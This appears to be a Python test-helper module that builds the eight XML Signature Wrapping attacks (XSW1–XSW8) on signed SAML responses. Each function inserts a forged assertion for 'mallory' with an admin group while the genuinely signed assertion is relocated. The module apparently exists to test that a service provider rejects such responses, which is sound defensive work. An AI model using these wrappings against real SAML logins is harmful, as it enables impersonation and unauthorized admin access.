"""Signature wrapping: a signed assertion moved to where nobody looks, with a forged one in place.

The eight arrangements of "On Breaking SAML" (Somorovsky and others, 2012), as testers number them.
Each takes an answer whose assertion is signed, in the first two also the answer itself.
"""

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

from tests.cast.saml_provider import DS, A, P

EVIL = "mallory@aurora.example"


def forged(element: Any, *, keeps_id: bool = False) -> Any:
    """Return a copy that is of somebody else, without its signature."""
    copy = deepcopy(element)
    for each in list(copy.iter(f"{{{DS}}}Signature")):
        each.getparent().remove(each)
    for each in copy.iter(f"{{{A}}}NameID"):
        each.text = "mallory"
    for each in copy.iter(f"{{{A}}}AttributeValue"):
        each.text = EVIL if "@" in each.text else "gpu-admins"
    if not keeps_id:
        copy.set("ID", "_forged")
    return copy


def _parts(root: Any) -> tuple[Any, Any]:
    assertion = root.find(f"{{{A}}}Assertion")
    return assertion, assertion.find(f"{{{DS}}}Signature")


def _object(signature: Any, *inner: Any) -> None:
    etree.SubElement(signature, f"{{{DS}}}Object").extend(inner)


def xsw1(root: Any) -> Any:
    """The signed answer within the signature of a forged one."""
    evil, signature = forged(root), root.find(f"{{{DS}}}Signature")
    original = deepcopy(root)
    original.remove(original.find(f"{{{DS}}}Signature"))
    signature = deepcopy(signature)
    _object(signature, original)
    evil.insert(1, signature)
    return evil


def xsw2(root: Any) -> Any:
    """The signed answer before its signature, both in a forged one."""
    evil, signature = forged(root), deepcopy(root.find(f"{{{DS}}}Signature"))
    original = deepcopy(root)
    original.remove(original.find(f"{{{DS}}}Signature"))
    evil.insert(1, original)
    evil.insert(2, signature)
    return evil


def xsw3(root: Any) -> Any:
    """A forged assertion before the signed one."""
    assertion, _ = _parts(root)
    assertion.addprevious(forged(assertion))
    return root


def xsw4(root: Any) -> Any:
    """The signed assertion within a forged one."""
    assertion, _ = _parts(root)
    evil = forged(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def xsw5(root: Any) -> Any:
    """A forged assertion with the signature of the one that follows it."""
    assertion, signature = _parts(root)
    evil = forged(assertion)
    assertion.remove(signature)
    evil.insert(1, signature)
    assertion.addprevious(evil)
    return root


def xsw6(root: Any) -> Any:
    """The signed assertion within its signature, which stands in a forged one."""
    assertion, signature = _parts(root)
    evil = forged(assertion)
    assertion.remove(signature)
    root.replace(assertion, evil)
    evil.insert(1, signature)
    signature.append(assertion)
    return root


def xsw7(root: Any) -> Any:
    """A forged assertion of the same name in an extension."""
    assertion, _ = _parts(root)
    extensions = etree.Element(f"{{{P}}}Extensions")
    extensions.append(forged(assertion, keeps_id=True))
    root.insert(1, extensions)
    return root


def xsw8(root: Any) -> Any:
    """The signed assertion in an object of the signature of a forged one of the same name."""
    assertion, signature = _parts(root)
    evil, original = forged(assertion, keeps_id=True), deepcopy(assertion)
    original.remove(original.find(f"{{{DS}}}Signature"))
    _object(signature, original)
    root.replace(assertion, evil)
    evil.insert(1, signature)
    return root


WRAPPINGS: tuple[Callable[[Any], Any], ...] = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
